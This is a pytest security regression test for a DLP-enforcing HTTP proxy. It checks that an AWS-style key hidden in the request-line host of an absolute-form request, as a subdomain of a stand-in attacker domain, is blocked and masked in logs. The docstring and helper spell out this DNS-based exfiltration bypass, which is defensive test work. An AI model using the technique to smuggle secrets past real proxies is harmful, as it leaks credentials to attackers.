"""Held attack: a secret in the host the proxy connects to, not in the Host header.

An absolute-form request (`GET http://<key>.attacker.example/x` with `Host: benign.example`) makes
mitmproxy connect to the request line's host (its DNS lookup alone carries the key to an attacker's
name server), while the URL the DLP scan read was built from the Host header: the key passed an
enforce-mode BLOCK, and the tape's `target.host` held it in clear. HTTP clients lower-case hosts, so
a lower-cased AWS key id must be caught too."""

from __future__ import annotations

import socket
from urllib.parse import urlparse

import pytest

from tests.helpers import network_events, read_tape
from tests.security.helpers import DLP_BLOCK

KEY = "AKIAIOSFODNN7EXAMPLQ"  # gitleaks' aws-access-key-id shape, not a real key


def _absolute_form(proxy_url: str, host: str) -> bytes:
    port = urlparse(proxy_url).port
    with socket.create_connection(("127.0.0.1", port), timeout=30) as s:
        head = f"GET http://{host}/x HTTP/1.1\r\nHost: benign.example\r\nConnection: close\r\n\r\n"
        s.sendall(head.encode())
        answer = b""
        while chunk := s.recv(65536):
            answer += chunk
    return answer


def _tape_bytes(tape) -> bytes:
    return b"".join(p.read_bytes() for p in sorted(tape.glob("seg-*.jsonl")))


@pytest.mark.parametrize("key", [KEY, KEY.lower()])
def test_a_secret_in_the_target_host_is_blocked_before_any_connection(
    start_proxy, policy_file, tmp_path, key: str
) -> None:
    proxy = start_proxy(policy_file(DLP_BLOCK))
    answer = _absolute_form(proxy.url, f"{key}.attacker.invalid")
    proxy.flush()
    # failcore's refusal, not a 502 from a DNS lookup that carried the key out.
    assert answer.startswith(b"HTTP/1.1 403"), answer[:300]
    raw = _tape_bytes(tmp_path / "tape")
    assert KEY.encode() not in raw and KEY.lower().encode() not in raw
    (event,) = network_events(read_tape(tmp_path / "tape"))
    assert event["decision"] == "BLOCK" and "aws" in (event["rule"] or "")
    assert event["target"]["host"].endswith(".attacker.invalid") and key not in event["target"]["host"]


def test_observe_mode_records_the_target_host_masked(start_proxy, tmp_path) -> None:
    proxy = start_proxy()
    _absolute_form(proxy.url, f"{KEY}.attacker.invalid")
    proxy.flush()
    assert KEY.encode() not in _tape_bytes(tmp_path / "tape")
    (event,) = network_events(read_tape(tmp_path / "tape"))
    assert event["target"]["host"].endswith(".attacker.invalid")
    assert "aws-access-key-id" in {h["rule"] for h in event["dlp"]["hits"]}
